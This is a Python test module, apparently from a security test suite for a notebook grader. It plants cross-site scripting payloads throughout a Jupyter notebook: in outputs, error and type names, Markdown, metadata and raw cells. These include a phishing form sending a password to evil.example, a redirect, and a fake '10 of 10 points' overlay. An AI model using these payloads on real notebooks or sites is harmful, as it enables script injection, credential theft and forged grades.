"""Attacks on whoever looks at the marked notebook: instructor and student alike."""

from attacks.catalogue import in_cell, on_notebook
from attacks.vault import find, own_cell

FAMILY = "injecting"
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">marks</a>',
    "<svg onload=alert(1)></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div style="position:fixed;top:0">10 of 10 points</div>',
)

in_cell(
    FAMILY,
    "script in HTML outputs",
    "displays HTML with scripts, handlers, frames and styles",
    f"""
    from IPython.display import HTML, display
    for text in {SCRIPTS!r}: display(HTML(text))
    """,
)
in_cell(
    FAMILY,
    "script by other types",
    "publishes JavaScript, SVG, Markdown, LaTeX and unknown types",
    """
    from IPython.display import display
    for mime in ('application/javascript', 'image/svg+xml', 'text/markdown', 'text/latex', 'text/html', 'application/x-evil',
                 'application/vnd.jupyter.widget-view+json', 'application/pdf'):
        display({mime: '<script>alert(1)</script><img src=x onerror=alert(1)>', 'text/plain': 'x'}, raw=True)
    display({'image/png': 'x" onerror="alert(1)'}, raw=True)
    """,
)
in_cell(
    FAMILY,
    "script in printed text",
    "prints HTML and terminal codes, in the cell and in a check",
    f"""
    def double(x): print({SCRIPTS!r}, '\\x1b]8;;javascript:alert(1)\\x07x')
    double(0)
    """,
)
in_cell(
    FAMILY,
    "script in errors",
    "raises errors with HTML in their message and in the name of their type",
    """
    Evil = type('<script>alert(1)</script>', (Exception,), {})
    def double(x): raise Evil('<script>alert(1)</script><img src=x onerror=alert(1)>')
    double(0)
    """,
)
in_cell(
    FAMILY,
    "script in names",
    "returns objects whose type and repr are HTML",
    """
    Evil = type('<img src=x onerror=alert(1)>', (), {'__repr__': lambda self: '<script>alert(1)</script>'})
    def double(x): return Evil() if x.ndim == 1 else {'<script>alert(1)</script>': Evil()}
    """,
)


@on_notebook(FAMILY, "writes scripts into Markdown, where a browser would run them")
def markdown(notebook):
    for text in SCRIPTS:
        notebook["cells"].append(own_cell(text, "markdown"))
    notebook["cells"].append(own_cell("[marks](javascript:alert(1)) ![x](x){onerror=alert(1)}", "markdown"))
    cell = own_cell("![x](attachment:a.svg)", "markdown")
    cell["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}
    notebook["cells"].append(cell)


@on_notebook(FAMILY, "stores scripts as outputs, metadata and cell names in the file")
def stored(notebook):
    cell = find(notebook, "double")
    cell["outputs"] = [
        {"output_type": "display_data", "data": {"text/html": "<script>alert(1)</script>"}, "metadata": {}},
        {"output_type": "stream", "name": '"><script>alert(1)</script>', "text": "x"},
    ]
    cell["metadata"]["tags"] = ['"><script>alert(1)</script>']
    notebook["metadata"]["title"] = "</title><script>alert(1)</script>"
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"x": "</script><script>alert(1)"}
    }
    notebook["cells"].append(own_cell("</script><script>alert(1)</script>", "raw", raw_mimetype="text/html"))
